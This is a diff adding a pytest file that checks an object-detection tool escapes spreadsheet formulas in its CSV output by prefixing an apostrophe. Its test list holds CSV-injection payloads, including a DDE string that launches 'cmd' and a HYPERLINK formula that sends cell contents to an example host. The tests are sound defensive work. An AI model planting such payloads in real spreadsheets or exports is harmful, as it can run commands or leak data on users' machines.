@@ -1,0 +1,59 @@
+"""What is written as CSV is no formula, whatever names it holds."""
+
+import csv
+import shutil
+
+import pytest
+from tiny_detector import tiny_detector, write_checkpoint  # noqa: F401
+
+from epsanet_mmdet.config.load import load_config
+from epsanet_mmdet.inference import infer_to_folder
+from epsanet_mmdet.utils.spreadsheet import csv_row
+
+FORMULAS = [
+    '=1+1',
+    '=HYPERLINK("http://example.org/?"&A1,"see")',
+    '+1+1',
+    "-2+3+cmd|' /C calc'!A1",
+    '@SUM(1+1)*cmd',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '-1',
+]
+
+
+@pytest.mark.parametrize('text', FORMULAS)
+def test_a_text_that_would_be_a_formula_begins_with_an_apostrophe(text):
+    assert csv_row([text, 'cat']) == ["'" + text, 'cat']
+
+
+@pytest.mark.parametrize('value', ['cat', '', 'a=b', ' =1', "'=1", 1, -1, -0.5, float('-inf')])
+def test_other_texts_and_numbers_are_kept(value):
+    assert csv_row([value]) == [value]
+
+
+def test_pictures_and_classes_in_the_table_of_inference(tiny_detector, tmp_path):  # noqa: F811
+    classes = tuple(FORMULAS[1:3])
+    config = load_config(tiny_detector.config)
+    checkpoint = write_checkpoint(
+        config, tmp_path / 'a.pth', dataset_meta=dict(classes=classes, palette=None)
+    )
+    (tmp_path / 'pictures').mkdir()
+    source = next(tiny_detector.images.iterdir())
+    for name in ('=1+1.png', '-2+3.png', '@A1.png'):
+        shutil.copy(source, tmp_path / 'pictures' / name)
+    infer_to_folder(
+        [str(tmp_path / 'pictures')],
+        tiny_detector.config,
+        checkpoint,
+        str(tmp_path / 'out'),
+        score_thr=0.0,
+        device='cpu',
+    )
+    with open(tmp_path / 'out' / 'results.csv', newline='', encoding='utf-8') as file:
+        rows = list(csv.DictReader(file))
+    assert {row['image'] for row in rows} == {"'=1+1.png", "'-2+3.png", "'@A1.png"}
+    assert {row['class'] for row in rows} <= {f"'{name}" for name in classes}
+    assert len(rows) > 3
+    assert all(float(row['score']) >= 0 and float(row['x1']) >= 0 for row in rows)
